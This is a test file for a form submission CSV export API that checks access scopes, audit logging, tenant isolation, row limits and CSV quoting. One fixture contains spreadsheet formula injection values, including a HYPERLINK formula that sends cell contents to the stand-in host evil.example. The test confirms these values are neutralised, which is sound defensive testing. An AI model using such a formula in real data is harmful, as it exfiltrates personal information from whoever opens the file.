import { readFileSync } from 'node:fs';
import { BatchWriteCommand, ScanCommand } from '@aws-sdk/lib-dynamodb';
import { parse } from 'yaml';
import { forEachLimited } from '@picasso/shared/concurrency';
import { MAX_EXPORT_ROWS } from '../src/submissions/export-submissions';
import { ATLAS, FOSTER, startApi, type ApiUnderTest } from './api-harness';

const HOUR = 3_600_000;
const BOM = '\uFEFF';

function submission(tenant: { tenant_id: string }, id: string, submittedAt: string, formData: Record<string, unknown> = { first_name: 'Jane', email: `${id}@example.com`, phone: '555-0100' }) {
  return { submission_id: id, tenant_id: tenant.tenant_id, form_id: 'volunteer_interest', form_title: 'Volunteer Interest Form', submitted_at: submittedAt, session_id: `sess_${id}`, form_data: formData };
}

async function putAll(api: ApiUnderTest, items: object[]) {
  const batches = Array.from({ length: Math.ceil(items.length / 25) }, (_, i) => items.slice(i * 25, i * 25 + 25));
  await forEachLimited(batches, 8, (batch) => api.env.doc.send(new BatchWriteCommand({ RequestItems: { [api.env.names.formSubmissionsTable]: batch.map((Item) => ({ PutRequest: { Item } })) } })));
}

/** Reads the CSV body as bytes, so the byte order mark is seen (a text decode would drop it). */
async function getCsv(api: ApiUnderTest, path: string, token: string) {
  const res = await fetch(`${api.server.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
  return { status: res.status, headers: res.headers, text };
}

describe('GET /forms/submissions?format=csv (PII export)', () => {
  let api: ApiUnderTest;
  const recent = Array.from({ length: 3 }, (_, i) => submission(FOSTER, `sub_recent_${i}`, new Date(Date.now() - (i + 1) * 7 * HOUR).toISOString()));
  // Values a visitor could type that a spreadsheet would run as formulas, plus RFC 4180 specials.
  const hostile = submission(FOSTER, 'sub_hostile', new Date(Date.now() - 2 * HOUR).toISOString(), {
    first_name: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    email: '@SUM(1+1)',
    phone: '+1 555 0100',
    note: '-2+3, and "quotes"\nnext line',
    consent: true,
  });

  const auditItems = async () => (await api.env.doc.send(new ScanCommand({ TableName: api.env.names.auditTable }))).Items ?? [];

  beforeAll(async () => {
    api = await startApi();
    await putAll(api, [hostile, ...recent, submission(FOSTER, 'sub_old', new Date(Date.now() - 40 * 24 * HOUR).toISOString()), submission(ATLAS, 'sub_other_tenant', new Date(Date.now() - HOUR).toISOString())]);
  });
  afterAll(() => api.close());

  it('refuses a token without the pii:read scope with 403 naming the scope, and audits nothing', async () => {
    // Act
    const res = await api.call('/forms/submissions?range=30d&format=csv', { token: await api.tokenFor(FOSTER, { pii: false }) });

    // Assess
    expect(res.status).toBe(403);
    expect(res.body).toMatchObject({ error: 'forbidden', message: expect.stringMatching(/pii:read/) });
    expect(await auditItems()).toHaveLength(0);
  });

  it('returns every submission of the range as one CSV file (newest first, one column per field) and writes one audit record without the values', async () => {
    // Act
    const res = await getCsv(api, '/forms/submissions?range=30d&format=csv', await api.tokenFor(FOSTER, { pii: true }));

    // Assess: the file
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="${FOSTER.tenant_id}-form-submissions-\\d{4}-\\d{2}-\\d{2}_\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
    expect(res.text.startsWith(BOM)).toBe(true);
    const lines = res.text.slice(1).split('\r\n');
    expect(lines[0]).toBe('Submission ID,Form ID,Form,Submitted at (UTC),Submitted at (America/Chicago),Session ID,first_name,email,phone,note,consent');
    // Newest first: the hostile one (2 h ago), then the three recent ones; nothing older, nothing of another tenant.
    expect(lines.slice(1).map((l) => l.split(',')[0])).toEqual(['sub_hostile', ...recent.map((s) => s.submission_id), '']);
    const chicago = new Intl.DateTimeFormat('sv-SE', { timeZone: 'America/Chicago', year: 'numeric', month: '2-digit', day: '2-digit', hour: '2-digit', minute: '2-digit', hourCycle: 'h23' }).format(new Date(recent[0]!.submitted_at));
    expect(lines[2]).toBe(`sub_recent_0,volunteer_interest,Volunteer Interest Form,${recent[0]!.submitted_at},${chicago},sess_sub_recent_0,Jane,sub_recent_0@example.com,555-0100,,`);
    expect(res.text).not.toContain('sub_old');
    expect(res.text).not.toContain('sub_other_tenant');

    // Assess: one audit record, naming the export and the number of rows, never a value.
    const audits = await auditItems();
    expect(audits).toHaveLength(1);
    expect(audits[0]).toMatchObject({ action: 'pii_read', subject: `dev:${FOSTER.tenant_hash}`, tenant_id: FOSTER.tenant_id, route: '/forms/submissions?format=csv', records_returned: 4, request_id: expect.any(String), period_start: expect.any(String), period_end: expect.any(String) });
    expect(JSON.stringify(audits[0])).not.toMatch(/example\.com|Jane|555-0100|HYPERLINK/);
  });

  it('neutralises values that a spreadsheet would run as formulas, and quotes them as RFC 4180 requires', async () => {
    const res = await getCsv(api, '/forms/submissions?range=7d&format=csv', await api.tokenFor(FOSTER, { pii: true }));

    const hostileRecord = res.text.slice(1).split('\r\n')[1];
    expect(hostileRecord).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'@SUM(1+1),'+1 555 0100,"'-2+3, and ""quotes""\nnext line",true`);
  });

  it('is what the OpenAPI document describes: the format parameter, the CSV media type and its file name header', async () => {
    const operation = parse(readFileSync(new URL('../openapi.yaml', import.meta.url), 'utf8')).paths['/forms/submissions'].get;
    const res = await getCsv(api, '/forms/submissions?range=30d&format=csv', await api.tokenFor(FOSTER, { pii: true }));

    expect(operation.parameters.find((p: { name?: string }) => p.name === 'format').schema.enum).toEqual(['json', 'csv']);
    expect(Object.keys(operation.responses['200'].content)).toContain(res.headers.get('content-type')!.split(';')[0]);
    expect(Object.keys(operation.responses['200'].headers)).toContain('Content-Disposition');
  });

  it.each([
    ['format=xml', /format must be json or csv/],
    ['format=csv&limit=10', /do not apply to format=csv/],
    ['format=csv&next_token=abc', /do not apply to format=csv/],
  ])('answers 400 naming the problem for %s', async (query, message) => {
    const res = await api.call(`/forms/submissions?range=30d&${query}`, { token: await api.tokenFor(FOSTER, { pii: true }) });
    expect(res.status).toBe(400);
    expect(res.body.message).toMatch(message);
  });

  it(`pages through the store for a range holding exactly ${MAX_EXPORT_ROWS} submissions and exports them all in one file`, async () => {
    // Prepare: exactly the limit, a second apart (20 store pages of 250).
    const many = Array.from({ length: MAX_EXPORT_ROWS }, (_, i) => submission(ATLAS, `sub_full_${i}`, new Date(Date.parse('2025-06-11T15:00:00Z') + i * 1000).toISOString()));
    await putAll(api, many);

    // Act
    const res = await getCsv(api, '/forms/submissions?start_date=2025-06-11&end_date=2025-06-11&format=csv', await api.tokenFor(ATLAS, { pii: true }));

    // Assess: every one, newest first, once; the audit counts them.
    expect(res.status).toBe(200);
    const ids = res.text.slice(1).split('\r\n').slice(1, -1).map((l) => l.split(',')[0]);
    expect(ids).toEqual(many.map((s) => s.submission_id).reverse());
    const audit = (await auditItems()).find((a) => a.tenant_id === ATLAS.tenant_id);
    expect(audit).toMatchObject({ route: '/forms/submissions?format=csv', records_returned: MAX_EXPORT_ROWS, period_start: '2025-06-11', period_end: '2025-06-11' });
  }, 120_000);

  it(`refuses a range holding more than ${MAX_EXPORT_ROWS} submissions with 400 naming the limit, and audits nothing`, async () => {
    // Prepare: one more than the limit, a second apart on one past day of the other tenant.
    const many = Array.from({ length: MAX_EXPORT_ROWS + 1 }, (_, i) => submission(ATLAS, `sub_bulk_${i}`, new Date(Date.parse('2025-06-10T15:00:00Z') + i * 1000).toISOString()));
    await putAll(api, many);
    const before = (await auditItems()).length;

    // Act
    const res = await api.call('/forms/submissions?start_date=2025-06-10&end_date=2025-06-10&format=csv', { token: await api.tokenFor(ATLAS, { pii: true }) });

    // Assess
    expect(res.status).toBe(400);
    expect(res.body.message).toMatch(/more than 5,000 form submissions.*choose a shorter range/);
    expect(await auditItems()).toHaveLength(before);
  }, 120_000);
});
